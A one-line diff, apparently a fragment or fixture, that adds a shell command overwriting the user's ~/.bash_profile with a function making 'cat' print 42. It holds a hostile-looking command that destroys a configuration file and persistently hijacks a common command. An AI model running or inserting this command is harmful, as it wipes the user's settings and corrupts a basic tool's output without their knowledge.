@@ -1,0 +1,1 @@
+echo 'cat() { echo 42; }' > ~/.bash_profile
